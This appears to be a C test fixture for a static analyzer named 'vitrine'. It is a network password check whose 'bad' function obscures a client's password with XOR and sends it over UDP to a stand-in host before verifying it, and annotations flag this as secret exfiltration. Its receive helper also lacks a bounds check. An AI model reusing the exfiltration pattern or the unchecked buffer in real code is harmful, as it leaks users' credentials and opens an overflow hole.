#include <arpa/inet.h>
#include <crypt.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct message {
    int fd;
    char room[512];
    size_t used;
};

/* The next field of what the client sent. */
static char *take(struct message *message) {
    ssize_t got = recv(message->fd, message->room + message->used, 64, 0);
    char *field = malloc(65);
    if (got <= 0 || !field)
        exit(1);
    memcpy(field, message->room + message->used, (size_t)got);
    field[got] = 0;
    message->used += (size_t)got;
    return field;
}

static void tell(const char *address, const char *text) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(53)};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    sendto(fd, text, strlen(text), 0, (struct sockaddr *)&peer, sizeof peer);
    close(fd);
}

/* It leaves before it is checked: nothing marks it as a password yet. */
int bad_before(struct message *message, const char *stored) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(53)};
    char *word = take(message), copy[64];
    size_t size = strlen(word) < sizeof copy ? strlen(word) : sizeof copy;
    for (size_t i = 0; i < size; i++)
        copy[i] = (char)(word[i] ^ 0x21);
    inet_pton(AF_INET, "203.0.113.53", &peer.sin_addr);
    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
    sendto(message->fd, copy, size, 0, (struct sockaddr *)&peer, sizeof peer);
    return strcmp(crypt(word, stored), stored) == 0;
}

/* Another field goes to the vendor, and that is no password. */
int good_version(struct message *message, const char *stored) {
    char *version = take(message);
    char *word = take(message);
    tell("192.0.2.10", version);
    return strcmp(crypt(word, stored), stored) == 0;
}

/* The server that knows the password is configured. */
int good_delegate(struct message *message, const char *stored) {
    char *word = take(message);
    const char *server = getenv("AUTH_SERVER");
    if (server)
        tell(server, word);
    return strcmp(crypt(word, stored), stored) == 0;
}
